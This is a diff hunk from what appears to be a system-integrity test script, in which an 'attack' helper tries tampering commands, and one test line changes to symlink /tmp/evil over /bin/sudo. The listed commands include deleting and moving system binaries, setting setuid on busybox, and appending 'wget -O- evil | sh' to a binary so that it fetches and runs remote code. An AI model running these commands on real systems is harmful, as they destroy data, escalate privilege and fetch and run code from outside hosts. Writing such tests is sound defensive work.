@@ -97,7 +97,7 @@ attack 'rm /usr/bin/hello'
 attack 'mv /usr /usr2'
 attack 'echo "wget -O- evil | sh" >> /usr/bin/hello'
 attack 'chmod u+s /usr/bin/busybox'
-attack 'ln -sf /tmp/evil /bin/ls'
+attack 'ln -s /tmp/evil /bin/sudo'
 attack 'mount -o bind /usr/sbin /mnt && rm /mnt/poweroff'
 umount /mnt 2>/dev/null
 show ''
